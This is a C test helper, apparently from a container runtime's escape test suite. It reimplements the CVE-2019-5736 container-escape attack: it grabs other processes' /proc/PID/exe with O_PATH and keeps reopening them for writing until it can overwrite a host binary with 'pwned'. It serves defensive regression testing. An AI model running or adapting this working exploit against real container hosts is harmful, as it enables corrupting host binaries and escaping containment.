/* exe_grabber: the attack of CVE-2019-5736, for capsa-runtime's escape
 * tests (built static by the tests with gcc).
 *
 *   exe_grabber SECONDS OUTFILE
 *
 * For SECONDS, opens /proc/PID/exe of every other process it can see with
 * O_PATH (as the exploit does while the runtime's binary runs in the
 * container), and keeps trying to reopen each through /proc/self/fd for
 * writing and to write to it (which succeeds once the binary is no longer
 * running, if it is a writable file). Writes to OUTFILE one "seen TARGET"
 * line per distinct exe link, one "wrote TARGET" line per distinct file it
 * managed to write to, then "grabbed N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX 512

static char seen[64][256];
static int nseen;
static char wrote[64][256];
static int nwrote;
static int fds[MAX];
static int nfds;
static int grabbed_pid[MAX];
static char grabbed_target[MAX][256];

/* Adds `s` to `list` unless it is there. */
static void remember(char list[][256], int *n, const char *s) {
    for (int i = 0; i < *n; i++)
        if (strcmp(list[i], s) == 0)
            return;
    if (*n < 64)
        strcpy(list[(*n)++], s);
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    double end = now() + atof(argv[1]);
    int self = getpid();
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            char path[64], target[256];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n < 0)
                continue;
            target[n] = 0;
            remember(seen, &nseen, target);
            int have = 0;
            for (int i = 0; i < nfds; i++)
                have |= grabbed_pid[i] == pid;
            if (have || nfds >= MAX)
                continue;
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                grabbed_pid[nfds] = pid;
                strcpy(grabbed_target[nfds], target);
                fds[nfds++] = fd;
            }
        }
        if (d)
            closedir(d);
        for (int i = 0; i < nfds; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (write(w, "pwned", 5) > 0)
                    remember(wrote, &nwrote, grabbed_target[i]);
                close(w);
            }
        }
        sched_yield();
    }
    FILE *out = fopen(argv[2], "w");
    if (!out)
        return 1;
    for (int i = 0; i < nseen; i++)
        fprintf(out, "seen %s\n", seen[i]);
    for (int i = 0; i < nwrote; i++)
        fprintf(out, "wrote %s\n", wrote[i]);
    fprintf(out, "grabbed %d\n", nfds);
    fclose(out);
    return 0;
}
